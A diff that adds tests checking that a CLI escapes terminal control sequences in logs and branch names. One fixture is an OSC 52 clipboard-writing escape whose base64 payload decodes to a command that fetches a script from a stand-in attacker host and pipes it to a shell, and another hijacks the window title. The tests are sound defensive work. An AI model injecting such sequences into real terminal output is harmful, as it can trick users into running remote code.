@@ -473,3 +473,26 @@ class _Proxy:
                         return
         except OSError:
             pass
+
+
+OSC52 = "\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x07"  # writes the clipboard
+TITLE = "\x1b]0;owned\x07"  # sets the window title
+
+
+def test_logs_show_terminal_control_sequences_escaped_and_keep_colours(server: Server) -> None:
+    run = _run(server)
+    _step(server, run, "evil", 0, "success", f"copy{OSC52}me", f"\x1b[31mred\x1b[0m{TITLE}")
+    result = server.scd("logs", run.id, "evil")
+    assert result.exit_code == 0, result.output
+    assert "\x1b]" not in result.output
+    assert "\x07" not in result.output
+    assert "copy\\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\\x07me" in result.output
+    assert "\x1b[31mred\x1b[0m" in result.output
+
+
+def test_runs_show_a_branch_name_holding_control_sequences_escaped(server: Server) -> None:
+    _run(server, branch=f"x{TITLE}")
+    result = server.scd("runs", "--app", "web", "--limit", "100")
+    assert result.exit_code == 0, result.output
+    assert "\x1b]" not in result.output
+    assert "\x07" not in result.output
